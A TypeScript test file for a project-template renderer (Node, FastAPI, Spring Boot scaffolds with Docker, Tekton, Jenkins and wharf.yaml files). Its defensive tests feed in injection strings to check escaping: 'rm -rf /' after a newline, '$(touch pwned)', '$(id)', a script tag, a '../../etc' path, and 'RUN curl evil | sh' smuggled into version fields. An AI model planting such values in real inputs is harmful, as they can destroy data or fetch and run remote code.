import { execFileSync, spawnSync } from "node:child_process";
import fs from "node:fs";
import os from "node:os";
import path from "node:path";
import { parse as parseYaml } from "yaml";
import { describe, expect, it } from "vitest";
import { isAppError, type AppError } from "@/lib/errors";
import { ctxFor, makeUser } from "@/test/factories";
import { getTemplate, listTemplates, sampleRenderValues, unsafeLoadTemplateCatalog, type Template } from "./gallery";
import { ZTemplateManifest } from "./manifest";
import { renderTemplate, type RenderedFile, type TRenderValues } from "./render";
import { GPU_RESOURCE, parseWharfSpec, ZWharfSpec } from "./wharf-spec";
import { oneLine } from "./escape";
import { markdownShape, markdownText, parseGroovy, parseJava, parseMarkdown, parseXml, pythonSettings, sourceShell, type XmlNode } from "./testing/parsers";

const BUILTIN = path.resolve(process.cwd(), "templates");
const IDS = ["node-ts", "python-fastapi", "spring-boot"];

async function builtin(): Promise<Template[]> {
  const catalog = await unsafeLoadTemplateCatalog({ builtin: BUILTIN });
  expect(catalog.invalid).toEqual([]);
  return catalog.templates;
}

async function one(id: string): Promise<Template> {
  const t = (await builtin()).find((x) => x.id === id);
  if (!t) throw new Error(`no template ${id}`);
  return t;
}

function values(template: Template, patch: { params?: Record<string, unknown>; project?: Partial<TRenderValues["project"]> } = {}): TRenderValues {
  const base = sampleRenderValues(template);
  return { ...base, project: { ...base.project, ...patch.project }, params: { ...base.params, ...patch.params } };
}

function file(files: RenderedFile[], p: string): string {
  const f = files.find((x) => x.path === p);
  if (!f) throw new Error(`${p} was not rendered; got ${files.map((x) => x.path).join(", ")}`);
  return f.content;
}

function thrown(fn: () => unknown): AppError {
  try {
    fn();
  } catch (e) {
    if (isAppError(e)) return e;
    throw e;
  }
  throw new Error("expected an AppError");
}

function writeTree(root: string, files: RenderedFile[]) {
  for (const f of files) {
    const target = path.join(root, f.path);
    fs.mkdirSync(path.dirname(target), { recursive: true });
    fs.writeFileSync(target, f.content);
  }
}

describe("the built-in templates", () => {
  it("are node-ts, python-fastapi and spring-boot, and their manifests parse", async () => {
    const templates = await builtin();
    expect(templates.map((t) => t.id).sort()).toEqual(IDS);
    for (const id of IDS) {
      const raw = parseYaml(fs.readFileSync(path.join(BUILTIN, id, "template.yaml"), "utf8"));
      const parsed = ZTemplateManifest.safeParse(raw);
      expect(parsed.success, `${id}: ${parsed.error?.message}`).toBe(true);
    }
  });

  it.each(IDS)("%s renders the same files for the same values, with every delivery file", async (id) => {
    const template = await one(id);
    const first = renderTemplate(template, values(template));
    const second = renderTemplate(template, values(template));
    expect(second).toEqual(first);
    const paths = first.map((f) => f.path);
    expect(paths).toEqual([...paths].sort());
    for (const p of ["Dockerfile", ".tekton/pipeline.yaml", "Jenkinsfile", "wharf.yaml", "README.md", ".gitignore"]) expect(paths).toContain(p);
    expect(first.some((f) => f.path.endsWith(".eta") || f.content.includes("<%"))).toBe(false);

    const dockerfile = file(first, "Dockerfile");
    expect(dockerfile.match(/^FROM /gm)?.length).toBeGreaterThanOrEqual(2);
    expect(dockerfile).toMatch(/^USER (node|10001)$/m);
    const jenkinsfile = file(first, "Jenkinsfile");
    expect(jenkinsfile).toContain("@Library('wharf-pipelines') _");
    expect(jenkinsfile).toContain("project: 'hello-world'");
    const pipeline = parseYaml(file(first, ".tekton/pipeline.yaml"));
    expect(pipeline).toMatchObject({ apiVersion: "tekton.dev/v1", kind: "Pipeline", metadata: { name: "hello-world-ci" } });
    expect(pipeline.spec.tasks.map((t: { name: string }) => t.name)).toEqual(["clone", "test", "build-and-push"]);
    expect(JSON.stringify(pipeline)).toContain("registry.wharf.local/platform/hello-world");
  });

  it.each(IDS)("%s renders a wharf.yaml that parses with ZWharfSpec", async (id) => {
    const template = await one(id);
    for (const gpu of template.manifest.gpu ? [false, true] : [false]) {
      const parsed = parseWharfSpec(file(renderTemplate(template, values(template, { params: template.manifest.gpu ? { gpu } : {} })), "wharf.yaml"));
      expect(parsed.ok ? [] : parsed.errors).toEqual([]);
      const spec = ZWharfSpec.parse(parseYaml(file(renderTemplate(template, values(template)), "wharf.yaml")));
      expect(spec.metadata).toMatchObject({ name: "hello-world", team: "platform", owner: "dana@example.com", template: { id } });
      const api = spec.spec.services[0];
      expect(api.strategy).toEqual({ type: "RollingUpdate", rollingUpdate: { maxUnavailable: 0, maxSurge: "25%" } });
      expect(api.probes.liveness?.httpGet?.path).toBe(template.manifest.resources.probes.liveness);
      expect(api.probes.readiness?.httpGet?.path).toBe(template.manifest.resources.probes.readiness);
      expect(api.probes.startup).toBeDefined();
      expect(api.autoscaling).toMatchObject({ enabled: true, minReplicas: template.manifest.resources.autoscaling.minReplicas });
      expect(api.config).toEqual([]);
      expect(api.lifecycle.preStopDelaySeconds).toBeLessThan(api.terminationGracePeriodSeconds);
    }
  });

  it("renders one wharf.yaml service per requested service, workers without ports", async () => {
    const template = await one("node-ts");
    const files = renderTemplate(template, {
      ...values(template),
      services: [
        { slug: "api", kind: "api" },
        { slug: "jobs", kind: "worker" },
      ],
    });
    const spec = ZWharfSpec.parse(parseYaml(file(files, "wharf.yaml")));
    expect(spec.spec.services.map((s) => [s.name, s.kind, s.ports.length])).toEqual([
      ["api", "api", 1],
      ["jobs", "worker", 0],
    ]);
  });

  it("a slug YAML would read as a number or boolean stays a string in wharf.yaml", async () => {
    const template = await one("node-ts");
    const files = renderTemplate(template, values(template, { project: { slug: "123", team: "true" } }));
    const spec = ZWharfSpec.parse(parseYaml(file(files, "wharf.yaml")));
    expect(spec.metadata).toMatchObject({ name: "123", team: "true" });
  });
});

describe("the GPU flavour", () => {
  it("adds nvidia.com/gpu, a CUDA base image, PyTorch and the /gpu check; the CPU flavour has none of them", async () => {
    const template = await one("python-fastapi");
    expect(template.manifest.gpu).toBe(true);

    const gpu = renderTemplate(template, values(template, { params: { gpu: true } }));
    const gpuSpec = ZWharfSpec.parse(parseYaml(file(gpu, "wharf.yaml")));
    expect(gpuSpec.spec.services[0].resources.limits[GPU_RESOURCE]).toBe(1);
    expect(gpuSpec.spec.services[0].tolerations).toContainEqual({ key: GPU_RESOURCE, operator: "Exists", effect: "NoSchedule" });
    expect(file(gpu, "Dockerfile")).toContain("nvidia/cuda:");
    expect(file(gpu, "requirements-gpu.txt")).toContain("torch");
    expect(file(gpu, "app/gpu.py")).toContain("torch.cuda.is_available()");
    expect(file(gpu, "app/main.py")).toContain("app.include_router(gpu_router)");

    const cpu = renderTemplate(template, values(template, { params: { gpu: false } }));
    const cpuSpec = ZWharfSpec.parse(parseYaml(file(cpu, "wharf.yaml")));
    expect(cpuSpec.spec.services[0].resources.limits[GPU_RESOURCE]).toBeUndefined();
    expect(file(cpu, "Dockerfile")).not.toContain("nvidia/cuda");
    expect(cpu.map((f) => f.path)).not.toContain("app/gpu.py");
    expect(cpu.map((f) => f.path)).not.toContain("requirements-gpu.txt");
    expect(file(cpu, "app/main.py")).not.toContain("gpu");
  });

  it("is refused for a template that does not offer it", async () => {
    const template = await one("node-ts");
    const e = thrown(() => renderTemplate(template, values(template, { params: { gpu: true } })));
    expect(e.code).toBe("INVALID_INPUT");
    expect(e.fieldErrors?.["params.gpu"]).toBeDefined();
  });
});

describe("parameters", () => {
  it("a bad value is reported on its own field with a message a person understands", async () => {
    const template = await one("spring-boot");
    const e = thrown(() => renderTemplate(template, values(template, { params: { groupId: "Com..Bad", javaVersion: "8" } })));
    expect(e.code).toBe("INVALID_INPUT");
    expect(e.fieldErrors?.["params.groupId"]).toEqual(["A Java package such as com.example (lowercase, dot-separated)"]);
    expect(e.fieldErrors?.["params.javaVersion"]).toEqual(["Choose one of: 21, 17"]);
  });

  it("a missing required value says Required; missing optional ones take their default", async () => {
    const template = await one("spring-boot");
    const e = thrown(() => renderTemplate(template, values(template, { params: { groupId: "" } })));
    expect(e.fieldErrors?.["params.groupId"]?.[0]).toMatch(/Enter maven group id/);
    const files = renderTemplate(template, { ...values(template), params: {} });
    expect(file(files, "pom.xml")).toContain("<java.version>21</java.version>");
  });

  it("bad project values are reported on project.* fields", async () => {
    const template = await one("node-ts");
    const e = thrown(() => renderTemplate(template, values(template, { project: { slug: "Not A Slug", owner: { name: "x", email: "nope" } } })));
    expect(Object.keys(e.fieldErrors ?? {}).sort()).toEqual(["project.owner.email", "project.slug"]);
  });

  it("the Java package folder follows the group id and the slug", async () => {
    const template = await one("spring-boot");
    const files = renderTemplate(template, values(template, { params: { groupId: "org.acme" }, project: { slug: "payments-api" } }));
    const app = file(files, "src/main/java/org/acme/paymentsapi/Application.java");
    expect(app).toContain("package org.acme.paymentsapi;");
    expect(files.map((f) => f.path)).toContain("src/test/java/org/acme/paymentsapi/ApplicationTests.java");
    expect(files.some((f) => f.path.includes("__"))).toBe(false);
  });
});

describe("rendered code", () => {
  it("python-fastapi compiles in both flavours", async () => {
    const python = spawnSync("python3", ["--version"]);
    expect(python.status, "python3 is needed to compile the generated Python: apt-get install python3 (bash .ci/run installs it)").toBe(0);
    const template = await one("python-fastapi");
    for (const gpu of [false, true]) {
      const dir = fs.mkdtempSync(path.join(os.tmpdir(), "wharf-py-"));
      try {
        writeTree(dir, renderTemplate(template, values(template, { params: { gpu } })));
        const pyFiles = [
          "app/__init__.py",
          "app/__main__.py",
          "app/main.py",
          "app/settings.py",
          "app/log.py",
          "tests/test_app.py",
          ...(gpu ? ["app/gpu.py"] : []),
        ];
        execFileSync("python3", ["-m", "py_compile", ...pyFiles.map((p) => path.join(dir, p))]);
      } finally {
        fs.rmSync(dir, { recursive: true, force: true });
      }
    }
  });

  it("node-ts compiles with its own tsconfig and passes its own tests", { timeout: 60_000 }, async () => {
    const template = await one("node-ts");
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), "wharf-ts-"));
    try {
      writeTree(dir, renderTemplate(template, values(template)));
      fs.symlinkSync(path.resolve(process.cwd(), "node_modules"), path.join(dir, "node_modules"));
      execFileSync(process.execPath, [path.resolve(process.cwd(), "node_modules/typescript/bin/tsc"), "-p", "tsconfig.json"], { cwd: dir, stdio: "pipe" });
      const run = spawnSync(process.execPath, ["--test", "dist/"], { cwd: dir, encoding: "utf8" });
      expect(run.status, run.stdout + run.stderr).toBe(0);
      expect(run.stdout).toMatch(/# pass 3/);
    } finally {
      fs.rmSync(dir, { recursive: true, force: true });
    }
  });
});

describe("templates an admin adds in WHARF_TEMPLATES_DIR", () => {
  function extraDir() {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), "wharf-extra-templates-"));
    // A good one: a copy of node-ts under another id.
    fs.cpSync(path.join(BUILTIN, "node-ts"), path.join(dir, "go-fast"), { recursive: true });
    const manifest = path.join(dir, "go-fast", "template.yaml");
    fs.writeFileSync(manifest, fs.readFileSync(manifest, "utf8").replace("id: node-ts", "id: go-fast").replace("name: Node.js (TypeScript)", "name: Go fast"));
    // A manifest that does not validate.
    fs.mkdirSync(path.join(dir, "broken-manifest", "files"), { recursive: true });
    fs.writeFileSync(path.join(dir, "broken-manifest", "template.yaml"), "id: broken-manifest\nname: Broken\nservices: []\n");
    // Files that do not render.
    fs.cpSync(path.join(BUILTIN, "node-ts"), path.join(dir, "bad-syntax"), { recursive: true });
    const m2 = path.join(dir, "bad-syntax", "template.yaml");
    fs.writeFileSync(m2, fs.readFileSync(m2, "utf8").replace("id: node-ts", "id: bad-syntax"));
    fs.writeFileSync(path.join(dir, "bad-syntax", "files", "oops.txt"), "<%= it.project.slug ");
    // No manifest at all.
    fs.mkdirSync(path.join(dir, "empty-folder"));
    return dir;
  }

  it("are listed beside the built-in ones; broken ones are reported with their reasons to admins, not thrown", async () => {
    const dir = extraDir();
    try {
      const admin = await ctxFor(await makeUser("admin"));
      const catalog = await listTemplates(admin, { builtin: BUILTIN, extra: dir });
      expect(catalog.templates.map((t) => t.id).sort()).toEqual(["go-fast", ...IDS].sort());
      expect(catalog.templates.find((t) => t.id === "go-fast")?.source).toBe("extra");
      const invalid = Object.fromEntries(catalog.invalid.map((t) => [t.id, t.errors.join(" | ")]));
      expect(Object.keys(invalid).sort()).toEqual(["bad-syntax", "broken-manifest", "empty-folder"]);
      expect(invalid["broken-manifest"]).toMatch(/description/);
      expect(invalid["broken-manifest"]).toMatch(/services/);
      expect(invalid["bad-syntax"]).toMatch(/oops\.txt/);
      expect(invalid["empty-folder"]).toMatch(/template\.yaml is missing/);

      const developer = await ctxFor(await makeUser("developer"));
      const forDeveloper = await listTemplates(developer, { builtin: BUILTIN, extra: dir });
      expect(forDeveloper.templates).toHaveLength(4);
      expect(forDeveloper.invalid).toEqual([]);
    } finally {
      fs.rmSync(dir, { recursive: true, force: true });
    }
  });

  it("a missing WHARF_TEMPLATES_DIR is one reported problem, and the built-in templates still load", async () => {
    const admin = await ctxFor(await makeUser("admin"));
    const catalog = await listTemplates(admin, { builtin: BUILTIN, extra: "/nonexistent/wharf-templates" });
    expect(catalog.templates).toHaveLength(3);
    expect(catalog.invalid[0].errors[0]).toMatch(/does not exist/);
  });

  it("getTemplate: NOT_FOUND for an unknown id, PRECONDITION_FAILED for a broken one", async () => {
    const dir = extraDir();
    try {
      const ctx = await ctxFor(await makeUser("developer"));
      const dirs = { builtin: BUILTIN, extra: dir };
      expect((await getTemplate(ctx, "spring-boot", dirs)).manifest.name).toBe("Spring Boot");
      await expect(getTemplate(ctx, "nope", dirs)).rejects.toMatchObject({ code: "NOT_FOUND" });
      await expect(getTemplate(ctx, "bad-syntax", dirs)).rejects.toMatchObject({ code: "PRECONDITION_FAILED" });
    } finally {
      fs.rmSync(dir, { recursive: true, force: true });
    }
  });

  it("a path variable that escapes the repository is refused", async () => {
    const template = await one("spring-boot");
    const evil: Template = { ...template, manifest: { ...template.manifest, pathVariables: { packagePath: "../../etc" } } };
    expect(thrown(() => renderTemplate(evil, values(template))).code).toBe("INVALID_INPUT");
  });
});

describe("hostile values in the generated files", () => {
  // Each is meant to break out of wherever a template prints it: a new line that runs a command, quotes,
  // interpolations of every language, comment ends, YAML keys and list items, Unicode line separators,
  // bidirectional overrides, a NUL, and a \u000a that Java and Groovy read as a line break.
  const NAME = "Shop\nsh 'rm -rf /' \\u000a \"q\" ${x} #{y} */ --> \u2028: - \u202eevil\u202c\u0000";
  const DESCRIPTION = "First line\n# Heading\n| a | b |\n```\n<script>alert(1)</script>\n- item: z\n\u2028\u0085 ${x} #{y} */ \\u000a 'q' \"dq\"\n    indented";
  const OWNER = { name: "O'Brien \"Bob\" | <b>x</b> \\u000a\nsh 'id'", email: "o'brien+x_y@ex-ample.com" };
  const REPOSITORY = 'https://git.example.com/a.git\nkind: Evil\n\' "$(id)" ${x}';
  const GREETING = "It's \"me\"\nsh 'rm -rf /' ${x} #{y} $(touch pwned) `id` */ --> : - \\u000a";
  const TEMPLATE_NAME = "Evil\n<!-- --> </description><x>";
  const TEMPLATE_VERSION = "1\nkind: Evil";

  /**
   * The template as an admin could have written it: free-text parameters with no pattern or options
   * (so hostile values reach the files), and a hostile name and version of its own.
   */
  function permissive(template: Template): Template {
    return {
      ...template,
      manifest: {
        ...template.manifest,
        name: TEMPLATE_NAME,
        version: TEMPLATE_VERSION,
        parameters: template.manifest.parameters.map((p) =>
          p.type === "enum"
            ? { ...p, type: "string" as const, options: undefined }
            : p.type === "string"
              ? { ...p, pattern: undefined, patternMessage: undefined }
              : p,
        ),
      },
    };
  }

  function renderBoth(template: Template, gpu = false) {
    const loose = permissive(template);
    const gpuParam = template.manifest.gpu ? { gpu } : {};
    const benign = renderTemplate(loose, values(template, { params: gpuParam }));
    const hostile = renderTemplate(
      loose,
      values(template, {
        project: { name: NAME, description: DESCRIPTION, owner: OWNER, repositoryUrl: REPOSITORY },
        params: { greeting: GREETING, ...gpuParam },
      }),
    );
    return { benign, hostile };
  }

  /** What a YAML or JSON document is made of, without its values. */
  const shape = (v: unknown): unknown =>
    Array.isArray(v) ? v.map(shape) : v && typeof v === "object" ? Object.fromEntries(Object.entries(v).map(([k, x]) => [k, shape(x)])) : typeof v;

  const CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u2028\u2029\u202a-\u202e\u2066-\u2069]/;

  it.each(IDS)("%s: every file keeps its lines, and none holds a control character, line separator or bidi override", async (id) => {
    const template = await one(id);
    for (const gpu of template.manifest.gpu ? [false, true] : [false]) {
      const { benign, hostile } = renderBoth(template, gpu);
      expect(hostile.map((f) => f.path)).toEqual(benign.map((f) => f.path));
      for (const [i, f] of hostile.entries()) {
        expect(f.content.split("\n").length, f.path).toBe(benign[i]!.content.split("\n").length);
        expect(f.content, f.path).not.toMatch(CONTROL);
      }
      // The Dockerfile prints no free text: it is the same file.
      expect(file(hostile, "Dockerfile")).toBe(file(benign, "Dockerfile"));
    }
  });

  it.each(IDS)("%s: every YAML file parses to the same structure, the values as plain strings", async (id) => {
    const template = await one(id);
    const { benign, hostile } = renderBoth(template);
    const yamlFiles = hostile.filter((f) => /\.ya?ml$/.test(f.path));
    expect(yamlFiles.map((f) => f.path)).toEqual(expect.arrayContaining([".tekton/pipeline.yaml", "wharf.yaml"]));
    for (const f of yamlFiles) {
      const parsed = parseYaml(f.content, { strict: true, uniqueKeys: true });
      expect(shape(parsed), f.path).toEqual(shape(parseYaml(file(benign, f.path))));
    }
    const pipeline = parseYaml(file(hostile, ".tekton/pipeline.yaml"));
    expect(pipeline.spec.params.find((p: { name: string }) => p.name === "git-url").default).toBe(REPOSITORY);
    expect(pipeline.metadata.name).toBe("hello-world-ci");
    // Tekton pastes $(params.*) into a step's text: the clone script reads them from variables instead.
    const clone = pipeline.spec.tasks[0].taskSpec.steps[0];
    expect(clone.script).not.toContain("$(params.");
    expect(clone.env).toEqual(expect.arrayContaining([{ name: "GIT_URL", value: "$(params.url)" }]));
    const spec = parseWharfSpec(file(hostile, "wharf.yaml"));
    expect(spec.ok ? [] : spec.errors).toEqual([]);
    expect(parseYaml(file(hostile, "wharf.yaml")).metadata).toMatchObject({ owner: OWNER.email, template: { version: TEMPLATE_VERSION } });
    if (id === "spring-boot") expect(parseYaml(file(hostile, "src/main/resources/application.yaml")).app.greeting).toBe(GREETING);
  });

  it.each(IDS)("%s: Groovy reads the same Jenkinsfile: the name stays in its comment, the literals hold their values", async (id) => {
    const template = await one(id);
    const { benign, hostile } = renderBoth(template);
    const [b, h] = parseGroovy({ Benign: file(benign, "Jenkinsfile"), Hostile: file(hostile, "Jenkinsfile") });
    expect("error" in h! ? h.error : "").toBe("");
    expect("statements" in h! && h.statements).toEqual("statements" in b! && b.statements);
    const call = "statements" in h! ? h.statements[1] : undefined;
    expect(call).toMatchObject({ call: "wharfPipeline" });
    expect(JSON.stringify(call)).toContain(JSON.stringify({ key: { const: "project" }, value: { const: "hello-world" } }));
    expect(file(hostile, "Jenkinsfile").split("\n")[0]).toBe(
      `// CI for ${oneLine(NAME).replace(/\\/g, "\\\\").replace("*/", "* /")}: the company's shared pipeline library builds,`,
    );
  });

  it.each(IDS)("%s: the README has the same headings, paragraphs and table, each value as text", async (id) => {
    const template = await one(id);
    const { benign, hostile } = renderBoth(template);
    const tree = parseMarkdown(file(hostile, "README.md"));
    expect(markdownShape(tree)).toEqual(markdownShape(parseMarkdown(file(benign, "README.md"))));
    const [heading, description, table] = tree.children!;
    expect(markdownText(heading!)).toBe(oneLine(NAME).trim());
    expect(markdownText(description!)).toBe(oneLine(DESCRIPTION).trim());
    const rows = Object.fromEntries(table!.children!.map((r) => [markdownText(r.children![0]!), markdownText(r.children![1]!)]));
    expect(rows.Owner).toBe(`${oneLine(OWNER.name)} ${OWNER.email}`);
    expect(rows.Template).toBe(`${oneLine(TEMPLATE_NAME)} (v${oneLine(TEMPLATE_VERSION)})`);
    const endpoints = tree.children!.find((n) => n.type === "table" && markdownText(n).includes("GET /"))!;
    const hello = endpoints.children!.find((r) => markdownText(r.children![0]!) === "GET /")!;
    expect(markdownText(hello.children![1]!)).toBe(`{"message": ${JSON.stringify(`${GREETING} from hello-world!`)}}`);
    const last = tree.children!.at(-1)!;
    expect(markdownText(last)).toBe(`Repository: ${oneLine(REPOSITORY)}`);
  });

  it.each(IDS)("%s: shell and Python read the configuration files back, running nothing", async (id) => {
    const template = await one(id);
    const { hostile } = renderBoth(template);
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), "wharf-hostile-"));
    try {
      const env = sourceShell(file(hostile, ".env.example"), dir);
      expect(env[id === "spring-boot" ? "APP_GREETING" : "GREETING"]).toBe(oneLine(GREETING));
      if (id !== "spring-boot") expect(env.APP_NAME).toBe("hello-world");
      expect(fs.readdirSync(dir)).toEqual([]);
      if (id === "python-fastapi") {
        expect(sourceShell(file(hostile, "config/default.env"), dir)).toMatchObject({ GREETING: oneLine(GREETING), APP_NAME: "hello-world" });
        writeTree(dir, hostile);
        expect(pythonSettings(dir)).toMatchObject({ app_name: "hello-world", greeting: oneLine(GREETING), port: 8000 });
        expect(fs.existsSync(path.join(dir, "pwned"))).toBe(false);
      }
    } finally {
      fs.rmSync(dir, { recursive: true, force: true });
    }
  });

  it("node-ts: the JSON files parse to the same keys, the description and greeting verbatim", async () => {
    const template = await one("node-ts");
    const { benign, hostile } = renderBoth(template);
    for (const p of ["package.json", "config/default.json"]) expect(shape(JSON.parse(file(hostile, p))), p).toEqual(shape(JSON.parse(file(benign, p))));
    expect(JSON.parse(file(hostile, "package.json")).description).toBe(DESCRIPTION);
    expect(JSON.parse(file(hostile, "config/default.json")).greeting).toBe(GREETING);
  });

  it("spring-boot: javac reads the same Java, the test's expected greeting verbatim; the pom is well-formed with the template's name as text", async () => {
    const template = await one("spring-boot");
    const { benign, hostile } = renderBoth(template);
    const javaOf = (files: RenderedFile[], dir: string) =>
      files.filter((f) => f.path.endsWith(".java")).map((f) => [`${dir}/${path.basename(f.path)}`, f.content]);
    const parsed = parseJava(Object.fromEntries([...javaOf(benign, "benign"), ...javaOf(hostile, "hostile")]));
    const [b, h] = [parsed.filter((f) => f.file.startsWith("benign/")), parsed.filter((f) => f.file.startsWith("hostile/"))];
    expect(h.map((f) => f.errors)).toEqual([[], [], []]);
    expect(h.map((f) => [path.basename(f.file), f.package, f.shape])).toEqual(b.map((f) => [path.basename(f.file), f.package, f.shape]));
    expect(h.find((f) => f.file === "hostile/ApplicationTests.java")!.literals).toContain(`${GREETING} from hello-world!`);

    const elements = (n: XmlNode): unknown => ({ type: n.type, children: (n.children ?? []).map(elements) });
    const pom = parseXml(file(hostile, "pom.xml"));
    expect(elements(pom)).toEqual(elements(parseXml(file(benign, "pom.xml"))));
    expect(pom.children!.find((n) => n.type === "description")!.text).toBe(`Generated by Wharf from the ${TEMPLATE_NAME} template.`);
  });

  it("a version or group id that cannot be escaped where it is printed (Dockerfile, Java package) is refused on its field", async () => {
    for (const [id, param] of [
      ["node-ts", "nodeVersion"],
      ["python-fastapi", "pythonVersion"],
      ["spring-boot", "javaVersion"],
      ["spring-boot", "groupId"],
    ] as const) {
      const template = permissive(await one(id));
      const e = thrown(() => renderTemplate(template, values(template, { params: { [param]: "22\nRUN curl evil | sh" } })));
      expect(e.code, `${id} ${param}`).toBe("INVALID_INPUT");
      expect(Object.keys(e.fieldErrors ?? {}), `${id} ${param}`).toEqual([`params.${param}`]);
    }
  });
});
